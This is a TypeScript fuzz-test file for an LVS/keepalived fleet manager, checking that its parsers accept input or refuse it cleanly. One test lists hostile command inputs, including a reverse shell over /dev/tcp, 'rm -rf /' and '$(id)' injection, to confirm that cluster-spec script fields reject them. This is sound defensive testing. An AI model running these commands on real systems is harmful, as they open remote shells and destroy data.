import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { parseAgentOptions } from "@lvsfleet/agent-runtime";
import { parseIpAddr, parseIpLink, parseIpRoute, parseNftJson } from "@lvsfleet/hostops";
import { parseConnections, parseList, parseRestore, parseSave, SaveFormatError } from "@lvsfleet/ipvs";
import { parseKeepalivedText } from "@lvsfleet/keepalived";
import { ClusterSpec, parseEndpoint, parseSimTraffic, ValidationError, validate } from "@lvsfleet/model";
import { parseIdentityUri } from "@lvsfleet/pki/light";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseRoleMap, SLACK_ID } from "../../server/src/access/chat-roles.ts";
import { parseChatCommand } from "../../server/src/chat/parse.ts";
import { verifySlackSignature } from "../../server/src/chat/signature.ts";
import { parseSince } from "../../server/src/commands/audit.ts";
import { parseTarget } from "../../server/src/commands/weight.ts";

/**
 * Random strings at every parser: each either answers or refuses with its own, documented error
 * (one that says where and why) — never a TypeError, RangeError or a hang.
 */
const RUNS = { numRuns: 300 };
const golden = (dir: string) =>
  readdirSync(dir)
    .filter((f) => f.endsWith(".txt"))
    .map((f) => readFileSync(join(dir, f), "utf8"));
const ipvsSamples = golden(new URL("../../packages/ipvs/test/golden", import.meta.url).pathname);

/** A sample with random damage: characters inserted, deleted or replaced. */
function damaged(samples: string[]): fc.Arbitrary<string> {
  return fc
    .tuple(
      fc.constantFrom(...samples),
      fc.array(fc.tuple(fc.nat(), fc.nat(3), fc.string({ maxLength: 5 })), { maxLength: 6 }),
    )
    .map(([sample, edits]) =>
      edits.reduce((text, [at, del, ins]) => {
        const i = text.length ? at % text.length : 0;
        return text.slice(0, i) + ins + text.slice(i + del);
      }, sample),
    );
}

const text = (samples: string[] = []) =>
  samples.length
    ? fc.oneof(fc.string({ maxLength: 200 }), fc.string({ unit: "binary", maxLength: 100 }), damaged(samples))
    : fc.oneof(fc.string({ maxLength: 200 }), fc.string({ unit: "binary", maxLength: 100 }));

/** Runs `parse` and checks that it either returns or throws one of `allowed`. */
function survives(parse: () => unknown, ...allowed: ((e: unknown) => boolean)[]) {
  try {
    parse();
  } catch (error) {
    const ok = allowed.some((is) => is(error));
    if (!ok) throw new Error(`unexpected ${(error as Error)?.constructor?.name}: ${(error as Error)?.message}`);
  }
}

const isA = (type: new (...a: any[]) => Error) => (e: unknown) => e instanceof type;
const plainError = (e: unknown) =>
  e instanceof Error && !(e instanceof TypeError) && !(e instanceof RangeError) && (e as Error).message.length > 0;

describe("fuzz: every parser answers or refuses cleanly", () => {
  it("ipvsadm formats (-Sn, -R, -Ln, -Lnc) refuse with line and column", () => {
    fc.assert(
      fc.property(text(ipvsSamples), (t) => {
        for (const parse of [parseSave, parseRestore, parseList, parseConnections])
          survives(() => parse(t), isA(SaveFormatError));
      }),
      RUNS,
    );
  });

  it("keepalived.conf never throws: problems are diagnostics with file, line and column", () => {
    const samples = [
      readFileSync(new URL("../../packages/keepalived/test/fixtures/guide-keepalived.conf", import.meta.url), "utf8"),
    ];
    fc.assert(
      fc.property(text(samples), (t) => {
        const result = parseKeepalivedText(t, "fuzz.conf");
        for (const d of result.diagnostics) {
          expect(d.file).toBe("fuzz.conf");
          expect(d.line).toBeGreaterThan(0);
          expect(d.column).toBeGreaterThan(0);
          expect(d.message.length).toBeGreaterThan(0);
        }
      }),
      RUNS,
    );
  });

  it("cluster specs: any JSON value is accepted or refused field by field", () => {
    fc.assert(
      fc.property(fc.anything(), (value) => {
        survives(() => validate(ClusterSpec, value), isA(ValidationError));
      }),
      RUNS,
    );
  });

  it("cluster specs never carry a program: any path or command line in a script field is refused, naming it", () => {
    const base = {
      name: "web",
      vips: ["192.168.1.229"],
      directors: [{ host: "lb-master", address: "192.168.1.252", role: "master", priority: 100 }],
    };
    const service = (extra: object) => ({
      name: "http",
      address: "192.168.1.229",
      port: 80,
      realServers: [{ address: "192.168.1.220", port: 80 }],
      ...extra,
    });
    const places: [string, (command: string) => object][] = [
      [
        "services[0].realServers[0].healthChecks[0].path",
        (c) => ({
          services: [
            service({
              realServers: [{ address: "192.168.1.220", port: 80, healthChecks: [{ type: "misc", path: c }] }],
            }),
          ],
        }),
      ],
      [
        "services[0].realServers[0].healthChecks[0].script",
        (c) => ({
          services: [
            service({
              realServers: [{ address: "192.168.1.220", port: 80, healthChecks: [{ type: "misc", script: c }] }],
            }),
          ],
        }),
      ],
      ["services[0].quorum.up", (c) => ({ services: [service({ quorum: { weight: 1, up: c } })] })],
      ["services[0].quorum.down", (c) => ({ services: [service({ quorum: { weight: 1, down: c } })] })],
      ...(["master", "backup", "fault", "stop", "any"] as const).map((key): [string, (command: string) => object] => [
        `vrrp.instances[0].notify.${key}`,
        (c) => ({
          vrrp: { instances: [{ name: "VI_1", virtualRouterId: 51, vips: ["192.168.1.229"], notify: { [key]: c } }] },
        }),
      ]),
    ];
    // the attack inputs: programs, command lines, shell syntax, and random text with a slash or a blank
    const command = fc.oneof(
      fc.constantFrom(
        "/bin/touch /tmp/pwned",
        "/bin/sh -c 'id > /tmp/pwned'",
        "bash -i >& /dev/tcp/198.18.0.1/4444 0>&1",
        "../../bin/sh",
        "check-web; rm -rf /",
        "check-web $(id)",
        "check web",
        "/usr/local/bin/check.sh",
      ),
      fc
        .tuple(fc.string({ maxLength: 20 }), fc.constantFrom("/", " ", "\t", "\n"), fc.string({ maxLength: 20 }))
        .map(([a, sep, b]) => `${a}${sep}${b}`),
    );
    fc.assert(
      fc.property(fc.constantFrom(...places), command, ([field, place], c) => {
        let error: unknown;
        try {
          validate(ClusterSpec, { ...base, ...place(c) });
        } catch (e) {
          error = e;
        }
        expect(error).toBeInstanceOf(ValidationError);
        expect((error as ValidationError).errors.map((e) => e.field)).toContain(field);
      }),
      RUNS,
    );
  });

  it("endpoints, identities, chat commands, targets, times, role maps, traffic settings", () => {
    fc.assert(
      fc.property(text(), (t) => {
        expect(() => parseEndpoint(t)).not.toThrow();
        expect(() => parseIdentityUri(t)).not.toThrow();
        expect(parseChatCommand(t)).toHaveProperty("ok");
        survives(() => parseTarget(t, "server"), isA(ValidationError));
        survives(() => parseSince(t), isA(ValidationError));
        survives(() => parseRoleMap(t, "LVSFLEET_CHAT_USERS", SLACK_ID.user), plainError);
        survives(() => parseSimTraffic(t), isA(ValidationError));
        expect(verifySlackSignature("secret", { signature: t, timestamp: t }, t).ok).toBe(false);
      }),
      RUNS,
    );
  });

  it("iproute2 and nft JSON from the host refuse garbage with a plain error", () => {
    fc.assert(
      fc.property(fc.oneof(text(), fc.json()), (t) => {
        for (const parse of [parseIpAddr, parseIpLink, (s: string) => parseIpRoute(s), parseNftJson])
          survives(
            () => parse(t),
            plainError,
            (e) => e instanceof Error && e.name === "ZodError",
          );
      }),
      RUNS,
    );
  });

  it("agent command lines refuse unknown or bad options", () => {
    const word = fc.oneof(
      fc.constantFrom(
        "--host",
        "--listen",
        "--driver",
        "--server",
        "--address",
        "--ca-pin",
        "--insecure",
        "--metrics",
        "lb-master",
        "127.0.0.1:0",
      ),
      fc.string({ maxLength: 20 }),
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 8 }), (argv) => {
        survives(
          () => parseAgentOptions(argv),
          isA(ValidationError),
          (e) => String((e as { code?: string }).code ?? "").startsWith("ERR_PARSE_ARGS"),
        );
      }),
      RUNS,
    );
  });
});
